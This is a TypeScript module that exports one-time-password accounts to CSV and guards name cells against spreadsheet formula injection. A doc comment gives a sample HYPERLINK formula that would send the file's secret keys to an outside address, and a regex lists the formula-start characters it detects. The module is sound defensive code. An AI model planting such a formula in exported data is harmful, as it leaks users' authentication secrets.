import { toOtpauthUri } from '../otp/format.ts';
import type { OtpAccount } from '../otp/types.ts';
import type { Writer } from './types.ts';

/** CONTRACT.md's columns, in order. */
export const CSV_COLUMNS = [
  'issuer',
  'account',
  'secret',
  'type',
  'algorithm',
  'digits',
  'period',
  'counter',
  'uri',
] as const;

/** A cell a spreadsheet would run as a formula (OWASP "CSV injection"): `=`, `+`, `-`, `@`, tab, CR. */
const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * A name cell, guarded: a QR code's issuer or account is text from a web page, and a formula such as
 * `=HYPERLINK("https://…?"&C2:C9)` in it would, once the file is opened in a spreadsheet, send the keys
 * in the same file away. Such a cell gets a leading `'`, which spreadsheets show as text; the exact name
 * stays in the `uri` column, percent-encoded, where no spreadsheet evaluates it.
 */
export function guardCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** RFC 4180: a field with a comma, quote, CR or LF is quoted, its quotes doubled. */
export function quoteCell(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function row(account: OtpAccount): string[] {
  const steam = account.type === 'Steam';
  return [
    guardCell(account.issuer),
    guardCell(account.account),
    account.secret,
    account.type,
    steam ? 'SHA1' : account.algorithm,
    String(steam ? 5 : account.digits),
    account.type === 'HOTP' ? '' : String(steam ? 30 : account.period),
    account.type === 'HOTP' ? String(account.counter) : '',
    toOtpauthUri(account),
  ];
}

/**
 * CSV (RFC 4180: CRLF line ends, a header row, quoted fields where needed, no BOM), one row per account
 * in CONTRACT.md's columns. `type` is TOTP, HOTP or Steam; `period` is empty for HOTP, `counter` empty
 * for TOTP and Steam; `uri` is the normalised `otpauth://` URI, the one column an importer needs.
 */
export const writeCsv: Writer = (accounts) => {
  const lines = [CSV_COLUMNS.join(','), ...accounts.map((account) => row(account).map(quoteCell).join(','))];
  return { text: `${lines.join('\r\n')}\r\n`, notes: [], written: accounts.length };
};
